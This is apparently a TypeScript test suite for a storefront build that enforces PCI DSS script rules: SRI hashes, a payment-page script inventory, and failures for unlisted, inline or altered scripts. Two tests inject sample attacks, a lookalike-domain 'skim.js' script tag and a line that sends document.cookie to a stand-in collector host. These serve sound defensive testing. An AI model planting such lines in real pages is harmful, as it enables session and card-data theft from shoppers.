// PCI DSS v4.0.1 6.4.3: every payment-page script is authorised, its integrity assured, and
// listed in an inventory with a written justification. These tests pin the build side.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { checkBuiltPage } from '../../build/check-dist.js';
import { pageResources } from '../../build/html-tags.js';
import type { ScriptInventory } from '../../build/script-inventory.js';
import { sriHash } from '../../build/sri.js';
import { buildStorefrontBundle, STOREFRONT_ROOT } from '../../build/storefront-config.js';
import { buildStorefront, type TestBuild } from '../support/build-storefront.js';

const CHECK_COMMAND = join(STOREFRONT_ROOT, 'scripts', 'check-script-inventory.ts');

function tempDir(t: { after(fn: () => void): void }): string {
  const dir = mkdtempSync(join(tmpdir(), 'storefront-fixture-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** A minimal page built with the storefront's own Vite configuration and plugin. */
async function buildFixture(t: { after(fn: () => void): void }, headExtra: string): Promise<unknown> {
  const root = tempDir(t);
  writeFileSync(join(root, 'entry.js'), 'document.title = "fixture";\n');
  writeFileSync(
    join(root, 'index.html'),
    `<!doctype html><html lang="en"><head><title>x</title>${headExtra}</head><body><script type="module" src="/entry.js"></script></body></html>`,
  );
  try {
    await buildStorefrontBundle({ root, outDir: join(root, 'dist'), inventoryPath: join(root, 'inventory.json') });
    return undefined;
  } catch (err) {
    return err;
  }
}

function runCheck(distDir: string, inventoryPath: string) {
  return spawnSync(process.execPath, ['--import', 'tsx', CHECK_COMMAND, distDir, inventoryPath], { encoding: 'utf8' });
}

describe('[C-003] storefront build: Subresource Integrity and the payment-page script inventory', () => {
  const cleanups: (() => void)[] = [];
  let good: TestBuild;
  before(async () => {
    good = await buildStorefront({ after: (fn: () => void) => cleanups.push(fn) });
  });
  after(() => {
    for (const fn of cleanups) fn();
  });

  it('puts a correct sha384 SRI hash on every script and stylesheet the build emits', () => {
    const html = readFileSync(join(good.distDir, 'index.html'), 'utf8');
    const resources = pageResources(html);
    const emitted = readdirSync(join(good.distDir, 'assets'));
    assert.ok(emitted.some((f) => f.endsWith('.js')) && emitted.some((f) => f.endsWith('.css')));
    for (const file of emitted) {
      const res = resources.find((r) => r.src === `/assets/${file}`);
      assert.ok(res, `${file} is emitted but not referenced by the page`);
      assert.equal(res.integrity, sriHash(readFileSync(join(good.distDir, 'assets', file))), `${file} SRI`);
    }
    assert.equal(resources.filter((r) => r.inline).length, 0, 'no inline script or style');
    assert.doesNotMatch(html, /\sstyle\s*=|\son[a-z]+\s*=/i, 'no inline style or event-handler attribute');
  });

  it('lists every script of the payment page with origin, purpose, owner and justification', () => {
    const inventory = JSON.parse(readFileSync(good.inventoryPath, 'utf8')) as ScriptInventory;
    const own = inventory.scripts.filter((s) => s.origin === 'self');
    assert.ok(own.length >= 1);
    for (const s of own) assert.match(s.integrity ?? '', /^sha384-[A-Za-z0-9+/]+=*$/);
    const stripe = inventory.scripts.find((s) => s.origin === 'https://js.stripe.com');
    assert.ok(stripe, 'Stripe.js, loaded at run time, is in the inventory');
    for (const s of inventory.scripts) {
      for (const field of ['src', 'origin', 'purpose', 'owner', 'justification'] as const)
        assert.ok(s[field], `${s.src} ${field}`);
    }
  });

  it('keeps the committed storefront/payment-page-scripts.json equal to what the build generates', () => {
    const committed = readFileSync(join(STOREFRONT_ROOT, 'payment-page-scripts.json'), 'utf8');
    assert.equal(
      readFileSync(good.inventoryPath, 'utf8'),
      committed,
      'the storefront changed: run `npm run build -w storefront`, review and commit payment-page-scripts.json',
    );
  });

  it('passes the inventory check on an untouched build', () => {
    const res = runCheck(good.distDir, good.inventoryPath);
    assert.equal(res.status, 0, res.stderr);
  });

  it('fails the build when the page loads a script from an unlisted origin', async (t) => {
    const err = await buildFixture(t, '<script src="https://cdn.example.net/analytics.js"></script>');
    assert.ok(err instanceof Error, 'the build must fail');
    assert.match(err.message, /unlisted script: https:\/\/cdn\.example\.net\/analytics\.js/);
  });

  it('fails the build when the page holds an inline script', async (t) => {
    const err = await buildFixture(t, '<script>window.x = 1</script>');
    assert.ok(err instanceof Error, 'the build must fail');
    assert.match(err.message, /inline script/);
  });

  it('fails the inventory check when a script is added to the built page after the build', (t) => {
    const dir = tempDir(t);
    cpSync(good.distDir, dir, { recursive: true });
    const page = join(dir, 'index.html');
    writeFileSync(
      page,
      readFileSync(page, 'utf8').replace(
        '</head>',
        '<script src="https://js.stripe.com.evil.example/skim.js"></script></head>',
      ),
    );
    const res = runCheck(dir, good.inventoryPath);
    assert.equal(res.status, 1);
    assert.match(res.stderr, /unlisted script: https:\/\/js\.stripe\.com\.evil\.example\/skim\.js/);
  });

  it('fails the inventory check when one of our scripts is altered after the build', (t) => {
    const dir = tempDir(t);
    cpSync(good.distDir, dir, { recursive: true });
    const js = readdirSync(join(dir, 'assets')).find((f) => f.endsWith('.js'));
    assert.ok(js);
    const path = join(dir, 'assets', js);
    writeFileSync(path, `${readFileSync(path, 'utf8')}\n;fetch("https://collector.example/"+document.cookie);`);
    const problems = checkBuiltPage(dir, good.inventoryPath);
    assert.ok(
      problems.some((p) => p.includes(`script without a correct SRI hash: /assets/${js}`)),
      problems.join('\n'),
    );
    assert.equal(runCheck(dir, good.inventoryPath).status, 1);
  });

  it('fails the inventory check when the build emits a script the page does not load with SRI', (t) => {
    const dir = tempDir(t);
    cpSync(good.distDir, dir, { recursive: true });
    writeFileSync(join(dir, 'assets', 'lazy-chunk.js'), 'export default 1;\n');
    const problems = checkBuiltPage(dir, good.inventoryPath);
    assert.ok(
      problems.some((p) => p.includes('/assets/lazy-chunk.js')),
      problems.join('\n'),
    );
  });
});
